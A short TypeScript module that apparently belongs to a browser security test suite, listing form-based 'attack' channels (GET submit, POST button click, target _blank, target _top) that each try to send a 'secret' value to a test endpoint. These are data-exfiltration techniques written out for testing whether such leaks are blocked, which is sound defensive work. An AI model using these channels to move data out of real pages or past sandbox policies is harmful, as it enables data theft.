import type { Channel } from "./channel.ts";

export const FORMS: readonly Channel[] = [
  {
    id: "form_get",
    family: "form",
    entry: 34,
    attack: (t) => t.element("form", { action: `${t.base}/c?secret=1` }).submit(),
  },
  {
    id: "form_post_click",
    family: "form",
    entry: 34,
    attack: (t) => {
      const form = t.element("form", { method: "post", action: `${t.base}/c` });
      const button = document.createElement("button");
      button.name = "secret";
      form.append(button);
      button.click();
    },
  },
  {
    id: "form_target_blank",
    family: "form",
    entry: 41,
    attack: (t) => t.element("form", { target: "_blank", action: `${t.base}/c?secret=1` }).submit(),
  },
  {
    id: "form_target_top",
    family: "form",
    entry: 43,
    needsClick: true,
    attack: (t) => t.element("form", { target: "_top", action: `${t.base}/c?secret=1` }).submit(),
  },
];
